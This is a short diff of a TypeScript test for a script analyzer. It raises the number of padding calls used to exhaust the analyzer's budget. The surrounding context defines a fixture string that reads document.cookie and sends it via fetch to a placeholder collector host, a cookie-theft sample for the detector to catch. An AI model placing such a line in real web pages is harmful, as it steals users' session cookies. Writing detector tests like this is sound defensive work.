@@ -4,7 +4,7 @@ import { analyzeScript } from "./analyze-script.ts";
 const LEAK = "const c = document.cookie;\nfetch('https://collector.stranger.test/?c=' + c);";
 
 /** Work that brings nothing to light. Calls with constants are looked at one by one, so it is never summarized. */
-const BALLAST = Array.from({ length: 300 }, (_, run) => `burn(${run});`).join("\n");
+const BALLAST = Array.from({ length: 450 }, (_, run) => `burn(${run});`).join("\n");
 const BURN = "function burn(run) { return [...'x'.repeat(9_000)].length + run; }";
 
 describe("a script that exhausts the budget", () => {
